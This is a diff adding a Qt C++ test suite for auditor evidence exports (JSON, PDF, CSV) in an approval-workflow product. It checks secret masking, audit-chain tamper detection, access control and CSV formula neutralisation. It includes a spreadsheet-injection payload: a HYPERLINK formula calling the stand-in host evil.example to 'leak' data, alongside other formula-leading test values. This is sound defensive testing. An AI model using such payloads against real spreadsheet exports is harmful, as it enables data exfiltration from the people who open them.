@@ -1,0 +1,312 @@
+#include <QJsonDocument>
+#include <QProcess>
+#include <QtTest>
+#include <core/execution/execution.h>
+#include <core/views/csv.h>
+#include <core/views/evidence.h>
+#include <core/views/periodreport.h>
+#include <report/evidencereport.h>
+#include <report/periodreportpdf.h>
+#include <support/testworkspace.h>
+
+using namespace cs;
+
+namespace {
+
+const QString kCanary = QStringLiteral("CANARY-7f3a-secret");
+const QString kHostileComment
+    = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak\",\"click\"), with \"quotes\"\nand a second line");
+
+QString pdfText(const QString& path)
+{
+    QProcess p;
+    p.start(QStringLiteral("pdftotext"), { QStringLiteral("-layout"), path, QStringLiteral("-") });
+    if (!p.waitForFinished(60000) || p.exitCode() != 0)
+        qFatal("pdftotext failed on %s (poppler-utils: packaging/install-deps.sh)", qPrintable(path));
+    return QString::fromUtf8(p.readAllStandardOutput());
+}
+
+} // namespace
+
+// The evidence an auditor takes away: one request's document (JSON and PDF), and the period report
+// (CSV and PDF). Every field is there, no secret is, and no cell can run in a spreadsheet.
+class TestEvidence : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void init();
+    void cleanup();
+    void evidenceJsonHoldsEveryField();
+    void evidencePdfHasTheRequestOnItsPages();
+    void periodCsvRoundTripsAndNeutralisesFormulas();
+    void periodPdfHasCoverAndOneSectionPerRequest();
+    void periodReportIsForAuditorsOnly();
+    void csvCellsAreQuotedAndNeutralised();
+
+private:
+    RequestEvidence evidenceOf(qint64 id);
+    PeriodReport period(const PeriodFilter& filter);
+    std::unique_ptr<TestWorkspace> t;
+    QTemporaryDir dir;
+    qint64 executed = 0;
+    qint64 pending = 0;
+};
+
+void TestEvidence::init()
+{
+    t = std::make_unique<TestWorkspace>();
+    buildStandardDirectory(*t);
+    t->action(actionWithPolicy(R"({"rules":[{"name":"two-phase","phases":[
+        {"name":"Technical","approve":{"group":"approvers"}},
+        {"name":"Security","approve":{"group":"security"}}]}]})"));
+    auto r = t->ws().requests().submit(QStringLiteral("req"),
+                                       { QStringLiteral("act"),
+                                         { { QStringLiteral("count"), 3 },
+                                           { QStringLiteral("note"), QStringLiteral("rotate, \"carefully\"") },
+                                           { QStringLiteral("pin"), kCanary } },
+                                         { QStringLiteral("test1") },
+                                         kHostileComment },
+                                       SubmitMode::RequestApproval);
+    QVERIFY2(r.ok(), qPrintable(r.error().message));
+    executed = r->id;
+    t->clock.advanceSecs(60);
+    QVERIFY(t->ws().requests().decide(QStringLiteral("alice"), executed, true, QStringLiteral("ok")).ok());
+    t->clock.advanceSecs(60);
+    QVERIFY(t->ws().requests().decide(QStringLiteral("carol"), executed, true, {}).ok());
+    auto plan = t->ws().executions().claim(executed, QStringLiteral("a1"), QStringLiteral("token-a1"));
+    QVERIFY2(plan.ok(), qPrintable(plan.error().message));
+    TestWorkspace::must(t->ws().executions().recordStart(executed, QStringLiteral("a1")), "start");
+    TestWorkspace::must(t->ws().executions().appendOutput(executed, QStringLiteral("rotated 3 keys\n")), "output");
+    t->clock.advanceSecs(5);
+    TestWorkspace::must(t->ws().executions().finish(executed, QStringLiteral("a1"), ExecutionState::Succeeded, 0, {}),
+                        "finish");
+    auto second = t->ws().requests().submit(
+        QStringLiteral("req"), { QStringLiteral("act"), {}, { QStringLiteral("prod1") }, QStringLiteral("-2+3") },
+        SubmitMode::RequestApproval);
+    QVERIFY(second.ok());
+    pending = second->id;
+}
+
+void TestEvidence::cleanup()
+{
+    t.reset();
+}
+
+RequestEvidence TestEvidence::evidenceOf(qint64 id)
+{
+    auto e = collectEvidence(t->db(), t->ws().requests(), t->ws().executions(), t->ws().directory(), t->clock,
+                             QStringLiteral("audit"), id);
+    if (!e.ok())
+        qFatal("evidence: %s", qPrintable(e.error().message));
+    return *e;
+}
+
+PeriodReport TestEvidence::period(const PeriodFilter& filter)
+{
+    auto report = collectPeriodReport(t->db(), t->ws().auditService(), t->ws().requests(), t->ws().executions(),
+                                      t->ws().directory(), t->clock, QStringLiteral("audit"), filter);
+    if (!report.ok())
+        qFatal("period report: %s", qPrintable(report.error().message));
+    return *report;
+}
+
+void TestEvidence::evidenceJsonHoldsEveryField()
+{
+    const QJsonObject e = Json::evidence(evidenceOf(executed));
+    QCOMPARE(e.value(QStringLiteral("generatedBy")).toString(), QStringLiteral("audit"));
+
+    const QJsonObject r = e.value(QStringLiteral("request")).toObject();
+    QCOMPARE(r.value(QStringLiteral("id")).toInteger(), executed);
+    QCOMPARE(r.value(QStringLiteral("requester")).toString(), QStringLiteral("req"));
+    QVERIFY(!r.value(QStringLiteral("createdAt")).toString().isEmpty());
+    QCOMPARE(r.value(QStringLiteral("action")).toString(), QStringLiteral("act"));
+    QCOMPARE(r.value(QStringLiteral("actionVersion")).toInt(), 1);
+    QCOMPARE(r.value(QStringLiteral("scriptDigest")).toString().size(), 64);
+    QCOMPARE(r.value(QStringLiteral("scriptDigest")).toString(), r.value(QStringLiteral("versionDigest")).toString());
+    QCOMPARE(r.value(QStringLiteral("comment")).toString(), kHostileComment);
+    QCOMPARE(r.value(QStringLiteral("state")).toString(), QStringLiteral("succeeded"));
+    const QJsonObject params = r.value(QStringLiteral("parameters")).toObject();
+    QCOMPARE(params.value(QStringLiteral("count")).toInt(), 3);
+    QCOMPARE(params.value(QStringLiteral("pin")).toString(), QStringLiteral("********"));
+
+    const QJsonArray targets = e.value(QStringLiteral("targets")).toArray();
+    QCOMPARE(targets.size(), 1);
+    QCOMPARE(targets.at(0).toObject().value(QStringLiteral("name")).toString(), QStringLiteral("test1"));
+    QCOMPARE(
+        targets.at(0).toObject().value(QStringLiteral("attributes")).toObject().value(QStringLiteral("environment")),
+        QJsonValue(QStringLiteral("test")));
+
+    const QJsonObject policy = e.value(QStringLiteral("policy")).toObject();
+    QCOMPARE(policy.value(QStringLiteral("rule")).toString(), QStringLiteral("two-phase"));
+    QCOMPARE(policy.value(QStringLiteral("phases")).toArray().size(), 2);
+
+    const QJsonArray decisions = e.value(QStringLiteral("decisions")).toArray();
+    QCOMPARE(decisions.size(), 2);
+    const QStringList approvers { QStringLiteral("alice"), QStringLiteral("carol") };
+    const QStringList phases { QStringLiteral("Technical"), QStringLiteral("Security") };
+    for (int i = 0; i < 2; ++i) {
+        const QJsonObject d = decisions.at(i).toObject();
+        QCOMPARE(d.value(QStringLiteral("approver")).toString(), approvers.at(i));
+        QCOMPARE(d.value(QStringLiteral("verdict")).toString(), QStringLiteral("approve"));
+        QCOMPARE(d.value(QStringLiteral("phase")).toInt(), i + 1);
+        QCOMPARE(d.value(QStringLiteral("phaseName")).toString(), phases.at(i));
+        QVERIFY(!d.value(QStringLiteral("basis")).toArray().isEmpty()); // the membership that made it count
+        QCOMPARE(d.value(QStringLiteral("requestDigest")).toString(), r.value(QStringLiteral("digest")).toString());
+        QVERIFY(d.value(QStringLiteral("digestMatchesRequest")).toBool());
+        QVERIFY(!d.value(QStringLiteral("decidedAt")).toString().isEmpty());
+    }
+
+    const QJsonObject x = e.value(QStringLiteral("execution")).toObject();
+    QCOMPARE(x.value(QStringLiteral("agent")).toString(), QStringLiteral("a1"));
+    QCOMPARE(x.value(QStringLiteral("state")).toString(), QStringLiteral("succeeded"));
+    QCOMPARE(x.value(QStringLiteral("exitCode")).toInt(-1), 0);
+    QVERIFY(!x.value(QStringLiteral("startedAt")).toString().isEmpty());
+    QVERIFY(!x.value(QStringLiteral("finishedAt")).toString().isEmpty());
+    QCOMPARE(x.value(QStringLiteral("outputExcerpt")).toString(), QStringLiteral("rotated 3 keys\n"));
+
+    QVERIFY(e.value(QStringLiteral("revocation")).isNull());
+    const QJsonArray trail = e.value(QStringLiteral("auditTrail")).toArray();
+    QVERIFY(trail.size() >= 6);
+    QCOMPARE(trail.at(0).toObject().value(QStringLiteral("event")).toString(), QStringLiteral("request.submitted"));
+    const QJsonObject v = e.value(QStringLiteral("verification")).toObject();
+    QVERIFY(v.value(QStringLiteral("intact")).toBool());
+    QCOMPARE(v.value(QStringLiteral("entriesChecked")).toInteger(), trail.size());
+
+    QVERIFY(!QJsonDocument(e).toJson().contains(kCanary.toUtf8()));
+
+    // A broken chain is the evidence's own verdict, named.
+    QVERIFY(t->db()
+                .exec(QStringLiteral("UPDATE audit_log SET actor = 'mallory' WHERE chain = ? AND chain_seq = 2"),
+                      { executed })
+                .ok());
+    const QJsonObject broken = Json::evidence(evidenceOf(executed)).value(QStringLiteral("verification")).toObject();
+    QVERIFY(!broken.value(QStringLiteral("intact")).toBool());
+    QVERIFY(broken.value(QStringLiteral("problem")).toString().contains(QLatin1String("was altered")));
+}
+
+void TestEvidence::evidencePdfHasTheRequestOnItsPages()
+{
+    const QString path = dir.filePath(QStringLiteral("evidence.pdf"));
+    QVERIFY(report::writeEvidencePdf(path, Json::evidence(evidenceOf(executed))).ok());
+    const QString text = pdfText(path);
+    for (const QString& expected :
+         { QStringLiteral("Evidence for request #%1").arg(executed), QStringLiteral("Script digest"),
+           QStringLiteral("two-phase"), QStringLiteral("Technical"), QStringLiteral("Security"),
+           QStringLiteral("alice"), QStringLiteral("carol"), QStringLiteral("Digest approved"),
+           QStringLiteral("Exit code"), QStringLiteral("rotated 3 keys"), QStringLiteral("Not revoked."),
+           QStringLiteral("request.submitted"), QStringLiteral("Intact"), QStringLiteral("environment") })
+        QVERIFY2(text.contains(expected), qPrintable(expected));
+    QVERIFY(!text.contains(kCanary));
+    // Numbered pages: the last page's number stands alone at its foot.
+    const QStringList pages = text.split(QLatin1Char('\f'), Qt::SkipEmptyParts);
+    QVERIFY(!pages.isEmpty());
+    QVERIFY2(pages.last().trimmed().endsWith(QString::number(pages.size())), qPrintable(pages.last().right(80)));
+}
+
+void TestEvidence::periodCsvRoundTripsAndNeutralisesFormulas()
+{
+    PeriodFilter filter;
+    filter.from = 0;
+    filter.to = t->clock.nowMs() + 1;
+    const PeriodReport report = period(filter);
+    QCOMPARE(report.requests.size(), 2);
+    const QByteArray csv = Csv::document(Json::periodRows(report));
+    QVERIFY(csv.startsWith("\xEF\xBB\xBF"));
+    QVERIFY(!csv.contains(kCanary.toUtf8()));
+    const QString path = dir.filePath(QStringLiteral("period.csv"));
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::WriteOnly));
+    file.write(csv);
+    file.close();
+
+    // Python's csv module, as a spreadsheet import would read it.
+    QProcess python;
+    python.start(QStringLiteral("python3"),
+                 { QStringLiteral("-c"),
+                   QStringLiteral("import csv, json, sys\n"
+                                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                                  "    print(json.dumps(list(csv.reader(f))))\n"),
+                   path });
+    QVERIFY(python.waitForFinished(30000));
+    QCOMPARE(python.exitCode(), 0);
+    const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+    QCOMPARE(rows.size(), 3);
+    const QJsonArray header = rows.at(0).toArray();
+    const int comment = header.toVariantList().indexOf(QStringLiteral("comment"));
+    const int state = header.toVariantList().indexOf(QStringLiteral("state"));
+    const int approvals = header.toVariantList().indexOf(QStringLiteral("approvals"));
+    const int exitCode = header.toVariantList().indexOf(QStringLiteral("exit_code"));
+    QVERIFY(comment >= 0 && state >= 0 && approvals >= 0 && exitCode >= 0);
+    const QJsonArray first = rows.at(1).toArray();
+    QCOMPARE(first.size(), header.size());
+    QCOMPARE(first.at(comment).toString(), QLatin1Char('\'') + kHostileComment); // whole, and inert
+    QCOMPARE(first.at(state).toString(), QStringLiteral("succeeded"));
+    QVERIFY(first.at(approvals).toString().contains(QLatin1String("alice")));
+    QVERIFY(first.at(approvals).toString().contains(QLatin1String("carol")));
+    QCOMPARE(first.at(exitCode).toString(), QStringLiteral("0"));
+    QCOMPARE(rows.at(2).toArray().at(comment).toString(), QStringLiteral("'-2+3"));
+
+    // Filters: one target, one state.
+    filter.target = QStringLiteral("prod1");
+    QCOMPARE(period(filter).requests.size(), 1);
+    filter.target.clear();
+    filter.state = QStringLiteral("succeeded");
+    QCOMPARE(period(filter).requests.size(), 1);
+    QCOMPARE(period(filter).totals.value(QStringLiteral("succeeded")), 1);
+}
+
+void TestEvidence::periodPdfHasCoverAndOneSectionPerRequest()
+{
+    PeriodFilter filter;
+    filter.to = t->clock.nowMs() + 1;
+    filter.action = QStringLiteral("act");
+    const QString path = dir.filePath(QStringLiteral("period.pdf"));
+    QVERIFY(report::writePeriodReportPdf(path, Json::periodReport(period(filter))).ok());
+    const QString text = pdfText(path);
+    const QStringList pages = text.split(QLatin1Char('\f'), Qt::SkipEmptyParts);
+    QVERIFY(pages.size() >= 3); // the cover, then a section per request
+    const QString cover = pages.first();
+    for (const QString& expected :
+         { QStringLiteral("Countersign period report"), QStringLiteral("Totals by state"), QStringLiteral("succeeded"),
+           QStringLiteral("pending"), QStringLiteral("action = act"), QStringLiteral("audit"),
+           QStringLiteral("Intact") })
+        QVERIFY2(cover.contains(expected), qPrintable(expected));
+    QVERIFY(!cover.contains(QLatin1String("Evidence for request")));
+    QVERIFY(text.contains(QStringLiteral("Evidence for request #%1").arg(executed)));
+    QVERIFY(text.contains(QStringLiteral("Evidence for request #%1").arg(pending)));
+    QVERIFY(!text.contains(kCanary));
+}
+
+void TestEvidence::periodReportIsForAuditorsOnly()
+{
+    PeriodFilter filter;
+    filter.to = t->clock.nowMs() + 1;
+    auto refused = collectPeriodReport(t->db(), t->ws().auditService(), t->ws().requests(), t->ws().executions(),
+                                       t->ws().directory(), t->clock, QStringLiteral("req"), filter);
+    QVERIFY(!refused.ok());
+    QCOMPARE(refused.error().code, Error::Code::Forbidden);
+    // Evidence of a request follows who may read it: its requester may, a stranger may not.
+    QVERIFY(collectEvidence(t->db(), t->ws().requests(), t->ws().executions(), t->ws().directory(), t->clock,
+                            QStringLiteral("req"), executed)
+                .ok());
+    QVERIFY(!collectEvidence(t->db(), t->ws().requests(), t->ws().executions(), t->ws().directory(), t->clock,
+                             QStringLiteral("owner1"), executed)
+                 .ok());
+}
+
+void TestEvidence::csvCellsAreQuotedAndNeutralised()
+{
+    QCOMPARE(Csv::cell(QStringLiteral("plain")), QStringLiteral("plain"));
+    QCOMPARE(Csv::cell(QStringLiteral("a,b")), QStringLiteral("\"a,b\""));
+    QCOMPARE(Csv::cell(QStringLiteral("say \"hi\"")), QStringLiteral("\"say \"\"hi\"\"\""));
+    QCOMPARE(Csv::cell(QStringLiteral("two\nlines")), QStringLiteral("\"two\nlines\""));
+    for (const char* formula : { "=1+1", "+1", "-1", "@SUM(A1)", "\tx" })
+        QCOMPARE(Csv::cell(QString::fromLatin1(formula)), QLatin1Char('\'') + QString::fromLatin1(formula));
+    QCOMPARE(Csv::document({ { QStringLiteral("a"), QStringLiteral("b") } }),
+             QByteArray("\xEF\xBB\xBF"
+                        "a,b\r\n"));
+}
+
+QTEST_MAIN(TestEvidence)
+#include "tst_evidence.moc"
